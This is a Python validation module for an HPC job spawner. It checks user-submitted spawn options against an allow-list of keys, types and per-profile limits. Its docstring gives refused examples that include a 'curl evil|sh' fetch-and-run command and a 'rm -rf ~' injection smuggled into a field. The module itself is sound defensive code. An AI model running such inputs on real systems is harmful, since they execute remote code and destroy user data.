"""Validate ``user_options`` against the site's allow-list.

Options arrive from the spawn form (strings) or from the REST API (any JSON),
and both go through :func:`validate_user_options`.  Every key must be known,
every value must have the right type and lie within the chosen profile's
limits; anything else raises :class:`OptionError` naming the field and what is
allowed.  The result is a :class:`SpawnRequest` holding only checked values,
which is all the batch-script renderer ever sees.

Good: ``{"profile": "gpu", "cluster": "alpha", "gpus": 1, "cores": "4"}``.
Refused: ``{"prologue": "curl evil|sh"}``, ``{"cores": "4; rm -rf ~"}``,
``{"cores": 1e9}``, ``{"gpus": 2}`` on a CPU profile, ``{"cluster": "gamma"}``.
"""

from __future__ import annotations

import math
import re
from collections.abc import Mapping
from dataclasses import dataclass

from centre.errors import FieldError
from centre.names import ACCOUNT_NAME

from .site import IntRange, Site

AUTO = "auto"
ALLOWED_KEYS = (
    "profile",
    "cluster",
    "cores",
    "memory_gb",
    "gpus",
    "walltime_hours",
    "image",
    "account",
)


_DIGITS = re.compile(r"[0-9]{1,6}")
_DECIMAL = re.compile(r"[0-9]{1,5}(\.[0-9]{1,3})?")


class OptionError(FieldError):
    """A refused spawn option; ``str()`` is a message for the person who sent it."""


@dataclass(frozen=True)
class SpawnRequest:
    profile: str
    cluster: str  # a cluster name, or AUTO
    candidate_clusters: tuple[str, ...]
    partition: str
    cores: int
    memory_gb: int
    gpus: int
    walltime_minutes: int
    image: str
    account: str | None = None  # a ledger account name; whether it may be charged is billing's call


def _choice(field: str, value: object, allowed: list[str] | tuple[str, ...]) -> str:
    if not isinstance(value, str) or value not in allowed:
        shown = value if isinstance(value, (str, int, float)) else type(value).__name__
        raise OptionError(
            field, f"{str(shown)[:40]!r} is not offered; choose one of {', '.join(allowed)}."
        )
    return value


def _whole_number(field: str, value: object) -> int:
    if isinstance(value, bool):
        raise OptionError(field, "must be a whole number, not true/false.")
    if isinstance(value, int):
        return value
    if isinstance(value, str) and _DIGITS.fullmatch(value):
        return int(value)
    raise OptionError(field, f"must be a whole number; got {str(value)[:40]!r}.")


def _hours(field: str, value: object) -> float:
    if isinstance(value, bool):
        raise OptionError(field, "must be a number of hours, not true/false.")
    if isinstance(value, int) and abs(value) > 10**6:
        number = math.inf  # float() of a huge JSON integer would overflow
    elif isinstance(value, (int, float)) or (isinstance(value, str) and _DECIMAL.fullmatch(value)):
        number = float(value)
    else:
        raise OptionError(
            field, f"must be a number of hours such as 2 or 1.5; got {str(value)[:40]!r}."
        )
    if not math.isfinite(number):
        raise OptionError(field, "must be a finite number of hours.")
    return number


def _in_range(field: str, number: int, low: int, high: int, unit: str, profile: str) -> int:
    if not low <= number <= high:
        raise OptionError(
            field, f"profile '{profile}' allows {low} to {high} {unit}; you asked for {number}."
        )
    return number


def validate_user_options(options: Mapping[str, object] | None, site: Site) -> SpawnRequest:
    """Return a checked :class:`SpawnRequest` or raise :class:`OptionError`."""
    options = dict(options or {})
    unknown = sorted(str(k)[:40] for k in options if k not in ALLOWED_KEYS)
    if unknown:
        raise OptionError(
            unknown[0],
            f"unknown option. Allowed options are: {', '.join(ALLOWED_KEYS)}.",
        )

    profile_name = _choice(
        "profile", options.get("profile", site.default_profile), list(site.profiles)
    )
    profile = site.profiles[profile_name]
    label = profile.display_name or profile_name
    hosts = site.clusters_for(profile_name)

    cluster = _choice("cluster", options.get("cluster", AUTO), [AUTO, *hosts])
    if cluster == AUTO and "cluster" not in options and len(hosts) == 1:
        cluster = hosts[0]

    def ranged(field: str, limits: IntRange, unit: str) -> int:
        number = _whole_number(field, options.get(field, limits.default))
        return _in_range(field, number, limits.min, limits.max, unit, label)

    cores = ranged("cores", profile.cores, "cores")
    memory_gb = ranged("memory_gb", profile.memory_gb, "GB of memory")
    if profile.gpus.max == 0 and _whole_number("gpus", options.get("gpus", 0)):
        raise OptionError(
            "gpus",
            f"partition '{profile.partition}' has no GPUs; you asked for {options['gpus']}. "
            "Choose a GPU profile to get one.",
        )
    gpus = ranged("gpus", profile.gpus, "GPUs")

    hours = _hours("walltime_hours", options.get("walltime_hours", profile.walltime_hours.default))
    if not 0 < hours <= profile.walltime_hours.max:
        raise OptionError(
            "walltime_hours",
            f"profile '{label}' allows more than 0 and at most {profile.walltime_hours.max:g} hours; "
            f"you asked for {hours:g}.",
        )

    image = _choice("image", options.get("image", profile.image_default), profile.images)

    account = options.get("account") or None
    if account is not None and not (isinstance(account, str) and ACCOUNT_NAME.fullmatch(account)):
        raise OptionError(
            "account",
            f"{str(account)[:40]!r} is not an account name (lower-case letters, digits, '-', '_').",
        )

    return SpawnRequest(
        profile=profile_name,
        cluster=cluster,
        candidate_clusters=hosts,
        partition=profile.partition,
        cores=cores,
        memory_gb=memory_gb,
        gpus=gpus,
        walltime_minutes=max(1, math.ceil(hours * 60)),
        image=image,
        account=account,
    )


def options_from_form(formdata: Mapping[str, list[str]]) -> dict[str, str]:
    """Flatten the spawn form's ``{key: [value]}`` into ``{key: value}``.

    Keys are checked later by :func:`validate_user_options`; here we only
    refuse repeated fields, which a real form never sends.
    """
    flat: dict[str, str] = {}
    for key, values in formdata.items():
        if len(values) != 1:
            raise OptionError(str(key)[:40], "send exactly one value for this field.")
        flat[key] = values[0]
    return flat
